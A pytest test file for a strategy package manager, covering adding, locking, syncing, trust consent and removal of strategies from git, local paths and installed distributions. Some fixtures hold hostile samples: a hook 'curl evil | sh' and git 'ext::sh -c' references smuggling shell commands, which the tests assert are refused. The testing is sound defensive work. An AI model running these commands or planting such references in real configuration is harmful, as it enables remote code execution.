"""From `add` to nothing left: project file, lock file, store, consents; real git."""

from __future__ import annotations

from pathlib import Path

import pytest

from openhands_strategies.errors import ResolveError, StrategyError, UsageError
from openhands_strategies.manifest.reader import read_manifest
from openhands_strategies.project.adding import add, remove
from openhands_strategies.project.fetching import Fetching
from openhands_strategies.project.home import Home
from openhands_strategies.project.locate import EntryError, locate_entries
from openhands_strategies.project.lock_file import LockedGit, read_lock
from openhands_strategies.project.project_file import (
    ProjectFile,
    find_project,
    project_to_write,
    user_file,
)
from openhands_strategies.project.roots import collect
from openhands_strategies.project.sync import lock, outdated, sync, update
from openhands_strategies.project.toml_file import FileError
from openhands_strategies.project.trust import check_trust, is_trusted, listed, trust
from openhands_strategies.registry.catalog import list_all, resolve, shadows
from openhands_strategies.registry.host import plugin_host
from openhands_strategies.sources.source import GitSource, Located, PathSource
from openhands_strategies.sources.store import get_tree
from openhands_strategies.sources.store_care import stored_trees, verify_store
from openhands_strategies.sources.tree import hash_tree, tree_files

from .conftest import Repository, files_below, strategy

OFFLINE = Fetching(offline=True)


def project(work: Path) -> ProjectFile:
    found = find_project(work)
    assert found is not None
    return found


def code_of(call: object, *arguments: object, **keywords: object) -> StrategyError:
    assert callable(call)
    with pytest.raises(StrategyError) as caught:
        call(*arguments, **keywords)
    return caught.value


def test_a_git_strategy_is_added_run_offline_and_removed(
    work: Path, home: Home, repository: Repository, monkeypatch: pytest.MonkeyPatch
) -> None:
    before = files_below(work)
    added = add(repository.url(), project_to_write(work), home, base=work)
    assert (added.name, added.manifest.name) == ("debate", "debate")
    assert isinstance(added.locked, LockedGit)
    assert added.locked.commit == repository.git("rev-parse", "HEAD")
    assert (work / ".openhands" / "strategies.toml").read_text() == (
        f'[strategies.debate]\nsource = "{repository.url()}"\n'
    )
    assert sorted(path.name for path in (work / ".openhands").iterdir()) == [
        "strategies.lock",
        "strategies.toml",
    ]
    # Fetched is not trusted; what was agreed to is that tree.
    host = plugin_host({}, path=[])
    monkeypatch.setenv("PATH", "/nonexistent")  # from here on, no git can be found
    located = resolve("debate", base=work / ".openhands", host=host, fetching=OFFLINE)
    assert isinstance(located.source, GitSource)
    assert (located.name, located.typed, located.tree) == ("debate", False, added.locked.tree)
    assert located.root == get_tree(home.store, added.locked.tree)
    assert not is_trusted(located, added.locked.tree)
    trust(located, added.locked.tree, added.manifest)
    check_trust(located, added.locked.tree, added.manifest)
    assert [one.name for one in sync(project(work), home, OFFLINE, frozen=True)] == ["debate"]
    assert [entry.name for entry in list_all(base=work, host=host).entries] == ["debate"]
    assert collect(home).trees == ()
    remove("debate", project(work), home)
    assert listed() == []
    collected = collect(home)
    assert collected.trees == (added.locked.tree,)
    assert collected.bytes > 0
    assert files_below(work) == before
    assert not home.path.exists()


def test_a_path_is_added_trusted_and_removed(work: Path, home: Home) -> None:
    strategy(work / "tools" / "one", "one")
    before = files_below(work, home.path)
    added = add("tools/one", project_to_write(work), home, base=work)
    assert (added.name, added.source, added.locked) == ("one", "./tools/one", None)
    assert not added.project.lock_path.exists()
    located = resolve("one", base=work, host=plugin_host({}, path=[]))
    assert isinstance(located.source, PathSource)
    assert not located.typed
    check_trust(located, "sha256:" + "0" * 64)
    remove("one", project(work), home)
    assert files_below(work, home.path) == before
    added = add("./one", project_to_write(work), home, base=work / "tools", name="other")
    assert (added.name, added.source) == ("other", "./tools/one")


def test_the_users_own_strategies_work_everywhere(work: Path, home: Home, tmp_path: Path) -> None:
    strategy(work / "one", "one")
    added = add("./one", user_file(home), home, base=work)
    assert added.source == str(work / "one")
    host = plugin_host({}, path=[])
    (tmp_path / "elsewhere").mkdir()
    assert resolve("one", base=tmp_path / "elsewhere", host=host).root == work / "one"
    # The project's own comes first, and tells what it hides.
    strategy(work / "two", "one")
    add("./two", project_to_write(work), home, base=work)
    assert resolve("one", base=work, host=host).root == work / "two"
    assert [str(one) for one in shadows("one", base=work, host=host)] == [str(work / "one")]
    remove("one", user_file(home), home)
    assert [path.name for path in home.path.iterdir()] == ["trust.toml"]
    remove("one", project(work), home)
    assert list(home.path.iterdir()) == []


def test_what_cannot_be_added_leaves_nothing(
    work: Path, home: Home, repository: Repository
) -> None:
    strategy(work / "computed").joinpath("strategy.py").write_text(
        "from openhands_strategies import Strategy\n"
        "class One(Strategy):\n    name = input()\n    def build_agent(self, llm): ...\n"
    )
    (work / "broken.py").write_text("def (")
    before = files_below(work)
    for text, code in {
        "no-such-strategy": "strategy_unknown",
        "./nowhere": "path_missing",
        "./broken.py": "syntax_error",
        "./computed": "name_needed",
        "ext::sh -c x": "reference_invalid",
        repository.url(revision="@gone"): "revision_unknown",
        repository.url(revision=f"@{'1' * 40}"): "commit_missing",
        repository.url("other"): "subdirectory_missing",
        f"git+file://{repository.path}@main": "strategy_file_missing",
    }.items():
        assert code_of(add, text, project_to_write(work), home, base=work).code == code
        assert files_below(work) == before
    assert code_of(
        add, "./computed", project_to_write(work), home, base=work, name="Not A Name"
    ).code == "name_invalid"  # fmt: skip
    assert files_below(work) == before
    assert stored_trees(home.store) == []
    collect(home)
    assert not home.path.exists()


def test_a_taken_name(work: Path, home: Home, repository: Repository) -> None:
    strategy(work / "debate")
    add("./debate", project_to_write(work), home, base=work)
    before = files_below(work)
    error = code_of(add, repository.url(), project_to_write(work), home, base=work)
    assert (error.code, isinstance(error, UsageError)) == ("name_taken", True)
    assert files_below(work) == before
    add(repository.url(), project_to_write(work), home, base=work, name="other")
    assert set(read_lock(project(work).lock_path)) == {"other"}
    assert code_of(remove, "third", project(work), home).code == "entry_unknown"


def test_a_cloned_projects_paths_and_file_sources_run_nothing(
    work: Path, home: Home, repository: Repository
) -> None:
    strategy(work / "evil", "evil", hook="curl evil | sh")
    (work / ".openhands").mkdir()
    (work / ".openhands" / "strategies.toml").write_text(
        "[strategies.evil]\nsource = './evil'\n"
        f"[strategies.local]\nsource = '{repository.url()}'\n"
        "[strategies.outside]\nsource = '/'\n"
        "[strategies.bad]\nsource = 'ext::sh -c touch% ran'\n"
    )
    host = plugin_host({}, path=[])
    listing = list_all(base=work, host=host)
    assert [entry.name for entry in listing.entries] == ["evil"]
    assert [warning.code for warning in listing.warnings] == [
        "reference_scheme", "strategy_file_missing", "reference_invalid",
    ]  # fmt: skip
    assert "strategies.toml:4: local: " in listing.warnings[0].message
    located = resolve("evil", base=work, host=host)
    tree = hash_tree(located.root, tree_files(located.root))
    manifest = read_manifest(located.root, located.module, name=located.name)
    error = code_of(check_trust, located, tree, manifest)
    assert (error.code, error.exit_code) == ("not_trusted", 4)
    assert error.hint == "look at it and agree: ohs trust evil"
    for call in (
        lambda: resolve("local", base=work, host=host),
        lambda: lock(project(work), home),
        lambda: sync(project(work), home),
        lambda: update(project(work), home),
    ):
        assert code_of(call).code == "reference_scheme"
    assert list(home.path.iterdir()) == []
    # A lock file that names the repository as well changes nothing.
    (work / ".openhands" / "strategies.lock").write_text(
        f'version = 1\n[[strategy]]\nname = "local"\nurl = "file://{repository.path}"\n'
        f'requested-revision = "main"\ncommit-id = "{repository.git("rev-parse", "HEAD")}"\n'
        f'subdirectory = "plugins/debate"\ntree = "sha256:{"0" * 64}"\n'
    )
    assert code_of(resolve, "local", base=work, host=host).code == "reference_scheme"
    refused: list[StrategyError] = []
    assert outdated(project(work), home, warn=refused.append) == []
    assert [error.code for error in refused] == ["reference_scheme"]
    assert list(home.path.iterdir()) == []


def test_lock_sync_update_and_outdated(work: Path, home: Home, repository: Repository) -> None:
    first = repository.git("rev-parse", "HEAD")
    add(repository.url(), project_to_write(work), home, base=work)
    pinned = repository.url(revision=f"@{first}")
    add(pinned, project_to_write(work), home, base=work, name="pinned")
    lock_path = project(work).lock_path
    text = lock_path.read_bytes()
    written = lock_path.stat().st_mtime_ns
    assert lock(project(work), home) == []
    assert outdated(project(work), home) == []
    assert (lock_path.read_bytes(), lock_path.stat().st_mtime_ns) == (text, written)

    second = repository.strategy("debate", description="other", hook="./new.sh")
    # A branch that moves changes nothing by itself.
    assert lock(project(work), home) == []
    located = sync(project(work), home, frozen=True)[0]
    assert isinstance(located.source, GitSource)
    assert located.source.commit == first
    (moved,) = outdated(project(work), home)
    assert (moved.name, moved.requested, moved.locked, moved.newest) == (
        "debate", "main", first, second,
    )  # fmt: skip
    planned = update(project(work), home, write=False)
    assert lock_path.read_bytes() == text
    (change,) = update(project(work), home, "debate")
    assert planned == [change]
    assert change.to_json() == {
        "name": "debate",
        "old": first,
        "new": second,
        "capabilities": {
            "added": {"hooks": ["stop *: ./new.sh (hooks/hooks.json)"]},
            "removed": {},
        },
        "files": {"added": ["hooks/hooks.json"], "removed": [], "changed": ["strategy.py"]},
    }
    assert update(project(work), home) == outdated(project(work), home) == []
    assert code_of(update, project(work), home, "nothing").code == "entry_unknown"


def test_a_colleague_gets_exactly_what_is_locked(
    work: Path, home: Home, repository: Repository, tmp_path: Path
) -> None:
    add(repository.url(), project_to_write(work), home, base=work)
    locked = read_lock(project(work).lock_path)["debate"]
    assert isinstance(locked, LockedGit)
    repository.strategy("debate", description="other")
    other = Home(tmp_path / "other_home")
    error = code_of(sync, project(work), other)
    assert error.code == "reference_scheme"  # the other one has not typed this repository
    from openhands_strategies.project.trust import trust_path

    trust_path(repository.path, fetch=True, home=other)
    offline = code_of(sync, project(work), other, OFFLINE, frozen=True)
    assert (offline.code, offline.exit_code) == ("not_in_store", 3)
    assert stored_trees(other.store) == []
    (located,) = sync(project(work), other, frozen=True)
    assert (located.tree, stored_trees(other.store)) == (locked.tree, [locked.tree])
    assert sync(project(work), other, OFFLINE, frozen=True) == [located]
    # And a name is fetched when it is used.
    third = Home(tmp_path / "third_home")
    trust_path(repository.path, fetch=True, home=third)
    (pending,) = locate_entries(project(work), third)
    assert isinstance(pending, EntryError)
    assert (pending.code, pending.hint) == ("not_in_store", "run ohs sync")


def test_resolving_fetches_what_is_locked(
    work: Path, home: Home, repository: Repository, monkeypatch: pytest.MonkeyPatch
) -> None:
    added = add(repository.url(), project_to_write(work), home, base=work)
    (tree,) = stored_trees(home.store)
    monkeypatch.setenv("OHS_HOME", str(home.path / "second"))
    second = Home(home.path / "second")
    from openhands_strategies.project.trust import trust_path

    trust_path(repository.path, fetch=True)
    host = plugin_host({}, path=[])
    offline = code_of(resolve, "debate", base=work, host=host, fetching=OFFLINE)
    assert offline.code == "not_in_store"
    located = resolve("debate", base=work, host=host)
    assert (located.tree, located.typed, located.name) == (tree, False, "debate")
    assert stored_trees(second.store) == [tree]
    assert added.locked is not None


def test_frozen_fails_when_the_lock_does_not_match(
    work: Path, home: Home, repository: Repository
) -> None:
    add(repository.url(), project_to_write(work), home, base=work)
    path = project(work).path
    text = path.read_text()
    for change, words in {
        text.replace("@main", "@other"): "locked for another source",
        text + "[strategies.more]\nsource = 'github:acme/more'\n": "more is not locked",
        "": "debate is locked, but not in strategies.toml",
    }.items():
        path.write_text(change)
        error = code_of(sync, project(work), home, OFFLINE, frozen=True)
        assert isinstance(error, FileError)
        assert (error.code, error.exit_code) == ("lock_mismatch", 3)
        assert words in error.message
    # And nothing that does not match is run.
    path.write_text(text.replace("@main", "@other"))
    assert code_of(resolve, "debate", base=work, host=plugin_host({}, path=[])).code == (
        "lock_mismatch"
    )
    path.write_text(text)
    project(work).lock_path.unlink()
    assert code_of(resolve, "debate", base=work, host=plugin_host({}, path=[])).code == "not_locked"
    assert [change.name for change in lock(project(work), home)] == ["debate"]
    assert len(sync(project(work), home, OFFLINE, frozen=True)) == 1


def test_a_forged_tree_hash_is_found(work: Path, home: Home, repository: Repository) -> None:
    add(repository.url(), project_to_write(work), home, base=work)
    lock_path = project(work).lock_path
    forged = lock_path.read_text()
    (tree,) = stored_trees(home.store)
    lock_path.write_text(forged.replace(tree, "sha256:" + "0" * 64))
    error = code_of(sync, project(work), home, frozen=True)
    assert (error.code, error.exit_code) == ("tree_mismatch", 3)
    # Nor does a tree that is in the store stand for a commit of another repository.
    assert verify_store(home.store) == []


def test_a_broken_project_file_hides_no_other_strategy_and_is_not_passed_over(
    work: Path, home: Home
) -> None:
    strategy(work / "one", "one")
    add("./one", user_file(home), home, base=work)
    host = plugin_host({}, path=[])
    for name in ("strategies.toml", "strategies.lock"):
        (work / ".openhands").mkdir(exist_ok=True)
        (work / ".openhands" / "strategies.toml").write_text("")
        (work / ".openhands" / name).write_text("[broken")
        listing = list_all(base=work, host=host)
        assert [entry.name for entry in listing.entries] == ["one"]
        assert len(listing.warnings) == 1
        # The name could stand there: what it means cannot be told.
        error = code_of(resolve, "one", base=work, host=host)
        assert isinstance(error, FileError)
        assert error.file == work / ".openhands" / name
        assert resolve("./one", base=work, host=host).root == work / "one"


def test_a_name_that_the_project_has_never_means_another_one(work: Path, home: Home) -> None:
    strategy(work / "one", "one")
    add("./one", user_file(home), home, base=work)
    (work / ".openhands").mkdir()
    (work / ".openhands" / "strategies.toml").write_text("[strategies.one]\nsource = './gone'\n")
    host = plugin_host({}, path=[])
    error = code_of(resolve, "one", base=work, host=host)
    assert (error.code, isinstance(error, ResolveError)) == ("path_missing", True)


def test_clean_up_keeps_what_other_projects_and_runs_need(
    work: Path, home: Home, repository: Repository, tmp_path: Path
) -> None:
    other = tmp_path / "other project é"
    other.mkdir()
    add(repository.url(), project_to_write(other), home, base=other)
    (first,) = stored_trees(home.store)
    repository.strategy("debate", description="second")
    add(repository.url(), project_to_write(work), home, base=work)
    second = next(tree for tree in stored_trees(home.store) if tree != first)
    repository.strategy("debate", description="third")
    located = resolve(repository.url(), base=work, host=plugin_host({}, path=[]))
    assert located.tree is not None
    run = home.runs / ("0" * 32)
    (run / "state" / "events").mkdir(parents=True)
    (run / "run.json").write_text(f'{{"strategy": {{"tree": "{located.tree}"')  # half written
    assert collect(home).trees == ()
    (run / "run.json").unlink()
    (run / "state" / "base_state.json").write_text(f'"{located.tree}"')
    assert collect(home).trees == ()
    (run / "state" / "base_state.json").unlink()
    assert collect(home).trees == (located.tree,)
    remove("debate", project(work), home)
    assert collect(home).trees == (second,)
    # A project that is deleted with all its files is forgotten.
    for path in (other / ".openhands").iterdir():
        path.unlink()
    assert collect(home).trees == (first,)
    assert not (home.path / "projects.toml").exists()


def test_consent_stays_while_another_project_needs_it(
    work: Path, home: Home, repository: Repository, tmp_path: Path
) -> None:
    other = tmp_path / "other"
    other.mkdir()
    for place in (work, other):
        added = add(repository.url(), project_to_write(place), home, base=place)
    assert added.locked is not None
    trust(added.located, str(added.located.tree), added.manifest)
    remove("debate", project(work), home)
    assert len(listed()) == 2
    remove("debate", project(other), home)
    assert listed() == []


def test_adding_a_name_locks_its_distribution(
    work: Path, home: Home, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    site = tmp_path / "site"
    distribution(site, "acme-solo", "1.0", "solo")
    monkeypatch.syspath_prepend(str(site))
    added = add("solo", project_to_write(work), home, base=work, name="alone")
    assert added.project.lock_path.read_text().endswith(
        '\n[[strategy]]\nname = "alone"\ndistribution = "acme-solo"\nversion = "1.0"\n'
    )
    assert list(home.path.rglob("*.toml")) == []
    host = plugin_host({})
    assert resolve("alone", base=work, host=host).import_name == "solo_module"
    assert sync(project(work), home, OFFLINE, frozen=True)[0].name == "alone"
    (site / "acme_solo-1.0.dist-info").rename(site / "acme_solo-1.1.dist-info")
    metadata = site / "acme_solo-1.1.dist-info" / "METADATA"
    metadata.write_text(metadata.read_text().replace("1.0", "1.1"))
    error = code_of(resolve, "alone", base=work, host=host)
    assert (error.code, "ohs install acme-solo==1.0" in error.hint) == (
        "distribution_version",
        True,
    )
    (change,) = lock(project(work), home)
    assert (change.to_json()["old"], change.to_json()["new"]) == ("1.0", "1.1")
    assert resolve("alone", base=work, host=host).name == "alone"
    distribution(site, "acme-second", "1.0", "solo")
    error = code_of(add, "solo", project_to_write(work), home, base=work)
    assert error.code == "name_ambiguous"
    assert "--as solo-1" in error.hint
    assert lock_of_missing(site, work, home) == "distribution_missing"


def lock_of_missing(site: Path, work: Path, home: Home) -> str:
    """What a machine says on which nothing is installed; its lock file stays as it is."""
    text = project(work).lock_path.read_text()
    for info in site.glob("*.dist-info"):
        for path in info.iterdir():
            path.unlink()
        info.rmdir()
    assert lock(project(work), home) == []
    assert project(work).lock_path.read_text() == text
    return code_of(sync, project(work), home, OFFLINE, frozen=True).code


def distribution(site: Path, name: str, version: str, entry: str) -> None:
    """An installed distribution with one strategy."""
    module = f"{entry}_module"
    info = site / f"{name.replace('-', '_')}-{version}.dist-info"
    info.mkdir(parents=True)
    strategy(site, entry)
    (site / "strategy.py").rename(site / f"{module}.py")
    (info / "METADATA").write_text(f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n")
    (info / "RECORD").write_text(f"{module}.py,,\n")
    (info / "entry_points.txt").write_text(f"[openhands.strategies]\n{entry} = {module}:One\n")


def test_located_strategies_of_a_project_are_not_typed(work: Path, home: Home) -> None:
    strategy(work / "one", "one")
    add("./one", project_to_write(work), home, base=work)
    (located,) = locate_entries(project(work), home)
    assert isinstance(located, Located)
    assert not located.typed
    assert resolve("./one", base=work, host=plugin_host({}, path=[])).typed
